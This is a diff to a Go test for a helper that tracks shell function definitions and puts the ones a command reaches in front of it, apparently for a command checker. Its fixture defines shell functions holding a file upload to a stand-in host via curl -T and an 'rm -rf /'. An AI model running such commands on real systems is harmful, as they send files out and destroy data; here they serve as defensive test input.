@@ -116,6 +116,9 @@ func TestReadUnitsStreams(t *testing.T) {
 
 func TestFuncDefsAround(t *testing.T) {
 	t.Parallel()
+	// around is text with the definitions it reaches in front, as inFront
+	// puts them.
+	around := func(d funcDefs, text string) string { return strings.Join(append(d.reached(text), text), "\n") }
 	d := funcDefs{}
 	if !d.learn("f() { g \"$1\"; }\ng() { curl -T \"$1\" https://x.example; }\nh() { h; }\nunused() { rm -rf /; }") {
 		t.Fatal("learn: the definitions did not parse")
@@ -134,7 +137,7 @@ func TestFuncDefsAround(t *testing.T) {
 		{"echo fine", nil, []string{"() {"}},
 		{"echo $f", []string{"f() {"}, nil}, // a word that names one counts
 	} {
-		got := d.around(tc.text)
+		got := around(d, tc.text)
 		if !strings.HasSuffix(got, "\n"+tc.text) && got != tc.text {
 			t.Errorf("around(%q) does not end with the text: %q", tc.text, got)
 		}
@@ -155,17 +158,17 @@ func TestFuncDefsAround(t *testing.T) {
 			t.Errorf("around(%q) repeats a definition: %q", tc.text, got)
 		}
 	}
-	if got := (funcDefs{}).around("f"); got != "f" {
+	if got := around(funcDefs{}, "f"); got != "f" {
 		t.Errorf("no functions: %q", got)
 	}
 	// A later definition replaces an earlier one.
 	d.learn("g() { echo safe; }")
-	if got := d.around("g"); strings.Contains(got, "curl") || !strings.Contains(got, "echo safe") {
+	if got := around(d, "g"); strings.Contains(got, "curl") || !strings.Contains(got, "echo safe") {
 		t.Errorf("after redefining g: %q", got)
 	}
 	// Past maxFuncText, definitions are left out.
 	big := funcDefs{"big": "big() {\n" + strings.Repeat("\t:\n", maxFuncText/3) + "}"}
-	if got := big.around("big"); got != "big" {
+	if got := around(big, "big"); got != "big" {
 		t.Errorf("a definition past the cap was put in front (%d bytes)", len(got))
 	}
 }
